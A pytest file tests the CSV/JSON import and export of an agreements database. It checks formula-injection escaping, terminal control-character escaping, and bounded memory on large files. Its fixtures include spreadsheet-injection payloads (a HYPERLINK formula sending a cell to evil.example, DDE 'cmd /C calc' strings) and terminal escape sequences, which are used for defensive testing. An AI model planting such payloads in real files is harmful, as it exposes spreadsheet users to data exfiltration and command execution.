"""Files and output that can't harm their reader, and files of any size that still import.

Formula-like CSV cells are written as text and read back exactly; control characters are
stored as given and printed escaped; long cells, wide headers and big files are handled in
bounded time and memory.
"""

from __future__ import annotations

import csv
import io
import json
import time
import tracemalloc
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from sqlalchemy import select

from models import exchange_json
from models.agreement_record import csv_row_writer
from models.database import Database, open_database
from models.exchange import ImportFailed, export_file, import_file, preview_import
from models.exchange_csv import CELL_LIMIT
from models.query import AgreementFilter, Sort, iter_rows
from models.safe_output import FORMULA_STARTS, csv_cell, read_csv_cell, shown
from models.schema import Agreement, Relation
from models.service import load_input
from models.text import index_text
from models.vocab import RelationType
from tests.builders import agreement, save, table_counts
from ui.cli.listing import write_csv as list_csv
from ui.cli.listing import write_json as list_json
from ui.cli.listing import write_table as list_table

HEADER = "title,kind,status,parties,summary\n"
# Values a spreadsheet would run, and values that really begin with "'".
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Тоқаев")',
    "+7 727 000 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'Tis Oʻzbekiston's turn",
    "''Türkiye''",
    "'=not a formula",
    "'",
)
# First characters that matter, with others mixed in, so hypothesis tries them often.
_LEADING = st.sampled_from(sorted(FORMULA_STARTS | {"'", "a", "Қ", "ʻ", " ", "\n", '"'}))
CELLS = st.builds(lambda first, rest: first + rest, st.text(_LEADING, max_size=3), st.text())


def _reimported(database: Database, tmp_path: Path) -> dict[str, object]:
    """Export everything to CSV, import it into a fresh file, and read it back by title."""
    path = tmp_path / "out.csv"
    with database.sessions.begin() as session:
        export_file(session, path)
    other = open_database(tmp_path / "other.db")
    try:
        with other.sessions.begin() as session:
            assert import_file(session, path).added > 0
            rows = list(iter_rows(session, AgreementFilter(), Sort()))
        return {row.title: row for row in rows}
    finally:
        other.close()


# ----------------------------------------------------------------- CSV injection


@given(CELLS)
@example("=1+1")
@example("'=1+1")
@example("''")
@example("\r\n=x")
def test_a_cell_never_starts_a_formula_and_reads_back_exactly(value: str) -> None:
    cell = csv_cell(value)
    assert cell[:1] not in FORMULA_STARTS
    assert read_csv_cell(cell) == value


@given(st.lists(CELLS, min_size=1, max_size=5))
def test_a_row_of_any_text_survives_the_csv_module_both_ways(values: list[str]) -> None:
    out = io.StringIO(newline="")
    csv_row_writer(out)([csv_cell(value) for value in values])
    cells = next(csv.reader(io.StringIO(out.getvalue(), newline=""), strict=True))
    assert [read_csv_cell(cell) for cell in cells] == values


def test_exported_cells_are_shown_as_text_and_import_back_unchanged(
    database: Database, tmp_path: Path
) -> None:
    for number, value in enumerate(HOSTILE):
        save(
            database,
            agreement(
                f"{value} {number}" if number % 2 else value,
                parties=("Kazakhstan", value) if value.strip("'") else ("Kazakhstan",),
                summary=value,
                notes=value,
                signed_at=value,
                fields=[value],
            ),
        )
    path = tmp_path / "out.csv"
    with database.sessions.begin() as session:
        export_file(session, path)
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    for row in rows[1:]:
        assert all(cell[:1] not in FORMULA_STARTS for cell in row), row
    assert sum(cell.startswith("'") for row in rows for cell in row) > len(HOSTILE) * 3
    again = _reimported(database, tmp_path)
    with database.sessions.begin() as session:
        before = {row.title: row for row in iter_rows(session, AgreementFilter(), Sort())}
    assert again.keys() == before.keys()
    for title, row in before.items():
        copy = again[title]
        assert (copy.summary, copy.notes, copy.signed_at, copy.parties, copy.fields) == (  # type: ignore[attr-defined]
            row.summary,
            row.notes,
            row.signed_at,
            row.parties,
            row.fields,
        )


def test_a_hand_written_apostrophe_stays_and_list_output_is_escaped_too(
    database: Database, tmp_path: Path
) -> None:
    path = tmp_path / "hand.csv"
    path.write_text(
        HEADER + "'Tis a treaty,treaty,signed,Türkiye,'Oʻzbekiston\n"
        "'=SUM(A1) accord,treaty,signed,Türkiye,''=kept one\n",
        encoding="utf-8",
    )
    with database.sessions.begin() as session:
        import_file(session, path)
        rows = {row.title: row for row in iter_rows(session, AgreementFilter(), Sort())}
        out = io.StringIO()
        list_csv(iter_rows(session, AgreementFilter(), Sort()), out)
    assert rows["'Tis a treaty"].summary == "'Oʻzbekiston"
    assert rows["=SUM(A1) accord"].summary == "'=kept one"
    listed = csv.DictReader(io.StringIO(out.getvalue()))
    assert {row["title"] for row in listed} == {"'Tis a treaty", "'=SUM(A1) accord"}


# ----------------------------------------------------------------- control characters


class Terminal(io.StringIO):
    """Standard output as a terminal would be."""

    def isatty(self) -> bool:
        return True


# (No NUL: PostgreSQL can't hold one.)
ESCAPES = "Тоқаев\x1b[2J\x1b]0;pwned\x07 Oʻzbekiston\x9b31m Türkiye\x01\x7f"


def test_control_characters_are_stored_as_given_and_listed_escaped(database: Database) -> None:
    agreement_id = save(
        database,
        agreement(ESCAPES, parties=("Kazakhstan", f"Party {ESCAPES}"), summary=ESCAPES),
    )
    with database.sessions.begin() as session:
        data, _ = load_input(session, agreement_id)
        table, terminal, piped, as_json = io.StringIO(), Terminal(), io.StringIO(), io.StringIO()
        for write, out in (
            (list_table, table),
            (list_csv, terminal),
            (list_csv, piped),
            (list_json, as_json),
        ):
            write(iter_rows(session, AgreementFilter(), Sort()), out)  # type: ignore[operator]
    assert data.title == " ".join(ESCAPES.split()) and data.summary == ESCAPES
    controls = [chr(code) for code in (*range(0, 9), *range(11, 32), *range(127, 160))]
    for out in (table, terminal, as_json):
        assert not any(character in out.getvalue() for character in controls), out
    assert "\\x1b[2J" in table.getvalue() and "\\x9b31m" in terminal.getvalue()
    # Into a file or a pipe, CSV keeps the text as it is (it has no escapes), and JSON's
    # \u escapes read back as the same text.
    assert "\x1b[2J" in piped.getvalue()
    assert json.loads(as_json.getvalue())[0]["summary"] == ESCAPES


def test_shown_escapes_controls_and_leaves_tab_newline_and_letters() -> None:
    assert shown("a\tb\nc\x1b[0m\u0085Қ") == "a\tb\nc\\x1b[0m\\x85Қ"


# ----------------------------------------------------------------- long cells, wide headers


def test_a_cell_longer_than_the_csv_default_limit_imports_again(
    database: Database, tmp_path: Path
) -> None:
    long = ("Қазақстан Oʻzbekiston Türkiye " * 20_000).strip()  # 600,000 characters
    assert len(long) > 131_072  # the csv module's default limit
    run = "x" * 300_000  # one word, beyond what PostgreSQL's text search takes in one
    save(database, agreement("Long summary", summary=long, notes=run))
    again = _reimported(database, tmp_path)
    assert again["Long summary"].summary == long  # type: ignore[attr-defined]
    assert again["Long summary"].notes == run  # type: ignore[attr-defined]


def test_a_long_run_of_letters_is_indexed_in_linear_time() -> None:
    start = time.perf_counter()
    words = index_text("Oʻzbekiston and Côte d'Ivoire " + "Қ" * 30_000).split()
    assert time.perf_counter() - start < 2  # 26 s before (each letter tried as a start)
    assert words[:6] == ["ozbekiston", "and", "cote", "divoire", "к" * 30_000, "o"]


def test_a_cell_beyond_the_bound_is_refused_clearly(database: Database, tmp_path: Path) -> None:
    path = tmp_path / "huge.csv"
    path.write_text(
        HEADER + f"Huge,treaty,signed,Türkiye,{'x' * (CELL_LIMIT + 1)}\n", encoding="utf-8"
    )
    before = table_counts(database)
    with pytest.raises(ImportFailed) as failed, database.sessions.begin() as session:
        import_file(session, path)
    assert [str(problem) for problem in failed.value.problems] == [
        f"line 2: badly quoted cell: a cell longer than {CELL_LIMIT:,} characters, the most "
        'one cell may hold (or a quoted cell that is never closed: a missing ")'
    ]
    assert table_counts(database) == before


def test_a_header_of_100000_unknown_columns_is_refused_in_about_a_second(
    database: Database, tmp_path: Path
) -> None:
    path = tmp_path / "wide.csv"
    unknown = ",".join(f"extra{number}" for number in range(100_000))
    path.write_text(f"title,kind,status,parties,{unknown}\nA,treaty,signed,KAZ\n", encoding="utf-8")
    start = time.perf_counter()
    with pytest.raises(ImportFailed) as failed, database.sessions.begin() as session:
        import_file(session, path)
    elapsed = time.perf_counter() - start
    assert elapsed < 5, f"{elapsed:.1f} s"  # minutes before; about 0.3 s now
    (problem,) = failed.value.problems
    assert str(problem).startswith("line 1: unknown columns 'extra0', 'extra1', ")
    assert "'extra9' and 99,990 more (the columns are title," in str(problem)


# ----------------------------------------------------------------- big files, bounded memory

CSV_HEADER = "title,kind,status,signed_on,parties,fields\n"


def _rows(count: int, start: int = 0, title: str = "Oʻzbekiston–Türkiye accord") -> str:
    return "".join(
        f"{title} {number},agreement,signed,2021,KAZ; UZB,Energy\n"
        for number in range(start, start + count)
    )


def test_a_bad_row_at_the_end_of_a_big_file_leaves_the_database_as_it_was(
    database: Database, tmp_path: Path
) -> None:
    save(database, agreement("Oʻzbekiston–Türkiye accord 10", signed_on="2021"))
    before = table_counts(database)
    path = tmp_path / "big.csv"
    path.write_text(
        CSV_HEADER + _rows(4_999) + "Тоқаев accord,agreement,signed,2021-13,KAZ,Energy\n",
        encoding="utf-8",
    )
    for attempt in (preview_import, import_file):  # a dry run says the same
        with pytest.raises(ImportFailed) as failed, database.sessions.begin() as session:
            attempt(session, path)
        assert [str(problem) for problem in failed.value.problems] == [
            "line 5001, signed_on: '2021-13' is not a date: month 13 is not between 1 and 12"
        ]
    assert table_counts(database) == before


def test_repeats_and_recorded_rows_are_found_across_batches(
    database: Database, tmp_path: Path
) -> None:
    save(database, agreement("Oʻzbekiston–Türkiye accord 4200", signed_on="2021"))
    path = tmp_path / "big.csv"
    # Row 3 comes again at the end; 4,200 is recorded; 6,000 rows in all.
    path.write_text(CSV_HEADER + _rows(5_999) + _rows(1, start=3), encoding="utf-8")
    with database.sessions.begin() as session:
        preview = preview_import(session, path, update=True)
        result = import_file(session, path, update=True)
    assert (preview.rows, preview.new, preview.existing, preview.repeated) == (6_000, 5_998, 1, 1)
    assert (result.added, result.updated, result.skipped) == (5_998, 1, 1)
    assert preview.parties_created == ("Uzbekistan",)  # Kazakhstan is recorded
    assert preview.fields_created == ("Energy",)


def test_a_file_that_changes_between_check_and_write_imports_nothing(
    database: Database, tmp_path: Path
) -> None:
    path = tmp_path / "moving.csv"
    path.write_text(CSV_HEADER + _rows(1_500), encoding="utf-8")
    before = table_counts(database)

    def edit_the_file(done: int, total: int) -> None:
        if done == 0:  # after the check, before the first write
            path.write_text(CSV_HEADER + _rows(1_500, title="Тоқаев accord") + "A,b,c\n")

    with pytest.raises(ImportFailed) as failed, database.sessions.begin() as session:
        import_file(session, path, progress=edit_the_file)
    assert str(failed.value) == "moving.csv changed while it was imported (import it again)"
    assert table_counts(database) == before


def test_thousands_of_problems_are_listed_up_to_a_thousand_and_counted(
    database: Database, tmp_path: Path
) -> None:
    path = tmp_path / "bad.csv"
    path.write_text(CSV_HEADER + _rows(1_500).replace(",signed,", ",signd,"), encoding="utf-8")
    with pytest.raises(ImportFailed) as failed, database.sessions.begin() as session:
        import_file(session, path)
    listed = [str(problem) for problem in failed.value.problems]
    assert len(listed) == 1_001
    assert listed[0].startswith("line 2, status: 'signd' is not a status")
    assert listed[-1] == "and 500 more problems, not listed"


def test_memory_follows_the_batch_not_the_file(tmp_path: Path) -> None:
    """Checking more rows costs a digest of each row's identity (for repeats), not the row."""
    peaks = []
    for rows in (3_000, 30_000):
        path = tmp_path / f"{rows}.csv"
        path.write_text(CSV_HEADER + _rows(rows), encoding="utf-8")
        database = open_database(tmp_path / f"{rows}.db")
        try:
            tracemalloc.start()
            with database.sessions.begin() as session:
                assert preview_import(session, path).new == rows
            peaks.append(tracemalloc.get_traced_memory()[1])
            tracemalloc.stop()
        finally:
            database.close()
    per_row = (peaks[1] - peaks[0]) / 27_000
    assert per_row < 250, f"{per_row:.0f} bytes a row"  # each row held whole: over 2,000


def test_possible_duplicates_and_misspelt_parties_are_found_in_later_batches(
    database: Database, tmp_path: Path
) -> None:
    save(
        database,
        agreement(
            "Cooperation in the field of electricity (Kazakhstan–Uzbekistan)",
            ("Kazakhstan", "Uzbekistan"),
            signed_on="2021-12-06",
        ),
    )
    path = tmp_path / "big.csv"
    near = "Cooperation in electricity between Kazakhstan and Uzbekistan,agreement,signed,"
    path.write_text(
        CSV_HEADER
        + _rows(1_200)
        + near
        + "2021-12-06,KAZ; Oʻzbekiston,Energy\n"
        + "Тоқаев–Türkiye accord,agreement,signed,2022,Uzbekistn,Energy\n",
        encoding="utf-8",
    )
    before = table_counts(database)
    with pytest.raises(ImportFailed) as failed, database.sessions.begin() as session:
        import_file(session, path)
    assert [str(problem) for problem in failed.value.problems] == [
        "line 1203, parties: 'Uzbekistn' would be a new party (did you mean 'Uzbekistan'?)"
    ]
    assert table_counts(database) == before
    with database.sessions.begin() as session:
        preview = preview_import(session, path)
        result = import_file(session, path, new_parties=True)
    assert preview.doubtful_parties == (("Uzbekistn", "Uzbekistan"),)
    assert [row.line for row in preview.possible_duplicates] == [1202]
    assert (result.added, result.skipped) == (1_201, 1)
    assert [row.describe() for row in result.possible_duplicates] == [
        "line 1202 ~ 1 'Cooperation in the field of electricity (Kazakhstan–Uzbekistan)'"
    ]


# ----------------------------------------------------------------- big JSON files, streamed

RELATIONS = select(Relation.agreement_id, Relation.type, Relation.other_id)


def _objects(count: int, start: int = 0, title: str = "Oʻzbekiston–Türkiye accord") -> list[dict]:
    return [
        {
            "id": f"file-{number}",
            "title": f"{title} {number}",
            "kind": "agreement",
            "status": "signed",
            "signed_on": "2021",
            "parties": ["KAZ", "UZB"],
            "fields": ["Energy"],
        }
        for number in range(start, start + count)
    ]


def _write_json(path: Path, items: list[dict], indent: int | None = 2) -> Path:
    path.write_text(json.dumps(items, ensure_ascii=False, indent=indent), encoding="utf-8")
    return path


def test_json_memory_follows_the_batch_not_the_file(tmp_path: Path) -> None:
    """A JSON list is parsed an object at a time: each costs a digest, not the object."""
    peaks = []
    for count in (3_000, 30_000):
        path = _write_json(tmp_path / f"{count}.json", _objects(count))
        database = open_database(tmp_path / f"{count}.db")
        try:
            tracemalloc.start()
            with database.sessions.begin() as session:
                assert preview_import(session, path).new == count
            peaks.append(tracemalloc.get_traced_memory()[1])
            tracemalloc.stop()
        finally:
            database.close()
    per_object = (peaks[1] - peaks[0]) / 27_000
    assert per_object < 600, f"{per_object:.0f} bytes an object"  # read whole: over 3,000


def test_relations_reach_objects_later_in_a_big_json_file(
    database: Database, tmp_path: Path
) -> None:
    """Relations across batches: to an object 2,999 places on, by id and by title."""
    items = _objects(3_000)
    items[0]["relations"] = [{"type": "amends", "id": "file-2999"}]
    items[2_999]["relations"] = [
        {"type": "supplements", "title": "Oʻzbekiston–Türkiye accord 1", "signed_on": "2021"}
    ]
    path = _write_json(tmp_path / "related.json", items)
    with database.sessions.begin() as session:
        result = import_file(session, path)
    assert result.added == 3_000
    with database.sessions.begin() as session:
        ids = {row.title: row.id for row in session.execute(select(Agreement.title, Agreement.id))}
        links = set(
            session.execute(select(Relation.agreement_id, Relation.type, Relation.other_id))
        )
    first, second, last = (ids[f"Oʻzbekiston–Türkiye accord {n}"] for n in (0, 1, 2_999))
    assert links == {
        (first, RelationType.AMENDS, last),
        (last, RelationType.SUPPLEMENTS, second),
    }


def test_a_relation_to_no_object_in_a_big_json_file_imports_nothing(
    database: Database, tmp_path: Path
) -> None:
    items = _objects(1_500)
    items[1_400]["relations"] = [{"type": "amends", "id": "file-9999"}]
    path = _write_json(tmp_path / "dangling.json", items, indent=None)
    before = table_counts(database)
    for attempt in (preview_import, import_file):
        with pytest.raises(ImportFailed) as failed, database.sessions.begin() as session:
            attempt(session, path)
        assert [str(problem) for problem in failed.value.problems] == [
            "index 1400, relations[0]: no agreement with id 'file-9999' in the file or the database"
        ]
    assert table_counts(database) == before


def test_an_update_from_json_gets_relations_to_objects_added_after_it(
    database: Database, tmp_path: Path
) -> None:
    save(database, agreement("Oʻzbekiston–Türkiye accord 0", signed_on="2021"))
    items = _objects(1_200)
    items[0]["relations"] = [{"type": "amends", "id": "file-1199"}]
    path = _write_json(tmp_path / "update.json", items)
    with database.sessions.begin() as session:
        result = import_file(session, path, update=True)
    assert (result.added, result.updated) == (1_199, 1)
    with database.sessions.begin() as session:
        ids = {row.title: row.id for row in session.execute(select(Agreement.title, Agreement.id))}
        links = set(
            session.execute(select(Relation.agreement_id, Relation.type, Relation.other_id))
        )
    first, last = ids["Oʻzbekiston–Türkiye accord 0"], ids["Oʻzbekiston–Türkiye accord 1199"]
    assert links == {(first, RelationType.AMENDS, last)}


def test_a_json_syntax_error_deep_in_a_big_file_is_placed_and_imports_nothing(
    database: Database, tmp_path: Path
) -> None:
    path = _write_json(tmp_path / "broken.json", _objects(5_000))
    text = path.read_text(encoding="utf-8")
    cut = text.rindex('"kind"')  # the last object's kind loses its colon
    path.write_text(text[:cut] + '"kind" "agreement"' + text[cut + 19 :], encoding="utf-8")
    line = text.count("\n", 0, cut) + 1
    before = table_counts(database)
    with pytest.raises(ImportFailed) as failed, database.sessions.begin() as session:
        import_file(session, path)
    assert [str(problem) for problem in failed.value.problems] == [
        f"line {line}: broken.json is not valid JSON (Expecting ':' delimiter at column 12)"
    ]
    assert table_counts(database) == before


def test_a_json_object_larger_than_its_limit_is_refused_with_the_way_out(
    database: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The sample file's shape ({"agreements": [...]}) is read whole, so only up to a size."""
    monkeypatch.setattr(exchange_json, "MAX_OBJECT_FILE_CHARS", 1 << 20)  # 64 MB in use
    path = tmp_path / "shaped.json"
    path.write_text(json.dumps({"agreements": _objects(8_000)}), encoding="utf-8")
    assert path.stat().st_size > 1 << 20
    with pytest.raises(ImportFailed) as failed, database.sessions.begin() as session:
        import_file(session, path)
    assert str(failed.value) == (
        "shaped.json is a JSON object larger than 1 MB: write a larger file as a list of "
        'agreements ([{"title": …}, …], as export does)'
    )
    path.write_text(json.dumps({"agreements": _objects(3)}), encoding="utf-8")
    with database.sessions.begin() as session:
        assert import_file(session, path).added == 3
